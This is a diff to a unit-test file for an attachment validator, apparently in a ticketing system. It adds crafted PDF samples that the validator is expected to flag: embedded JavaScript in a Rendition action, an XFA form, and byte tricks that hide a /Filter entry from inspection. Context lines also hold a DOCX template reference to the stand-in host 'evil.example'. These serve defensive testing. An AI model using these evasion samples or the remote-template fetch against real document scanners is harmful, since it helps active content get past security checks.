@@ -15,6 +15,11 @@ from tests.tickets.files import GOOD, PDF, TEXT, docx, m4a, odt, pdf, picture
 pytestmark = pytest.mark.unit
 
 FETCHED = '<Relationship Type="x/attachedTemplate" Target="https://evil.example/a.dotm"/>'
+#: How what is packed in a PDF could be hidden from who looks for it.
+HIDES = (
+    *(b" " * 600 + b"/Filter", b"/A % endobj\n/Filter", b"/A (1 0 obj <<)/Filter"),
+    *(b"/DecodeParms 5 0 R/Filter", b"/DecodeParms[<</Predictor 12>>]/Filter"),
+)
 SCRIPT = b"/S /JavaScript /JS (app.alert(1))"
 
 
@@ -78,6 +83,9 @@ def test_each_kind_that_is_taken(kept: Attachments, name: str) -> None:
         ("umowa.pdf", pdf(SCRIPT).replace(b"Flate", b"LZW"), Why.ACTIVE),
         ("umowa.pdf", pdf(b"").replace(b"/Flate", b"/Predictor 12/Flate"), Why.DAMAGED),
         ("umowa.pdf", pdf(bytes(60_000_000)), Why.BOMB),
+        ("umowa.pdf", PDF.replace(b"/Type", b"/S/Rendition/JS(app.alert(1))/Type"), Why.ACTIVE),
+        ("umowa.pdf", PDF.replace(b"/Type", b"/XFA [(form) 5 0 R]/Type"), Why.ACTIVE),
+        *(("umowa.pdf", pdf(SCRIPT).replace(b"/Filter", hides), Why.DAMAGED) for hides in HIDES),
         ("umowa.pdf", PDF.replace(b"/Root", b"/Encrypt 5 0 R/Root"), Why.ENCRYPTED),
         ("kran.png", picture("JPEG"), Why.OTHER),
         ("kran.png", picture()[:-30], Why.DAMAGED),
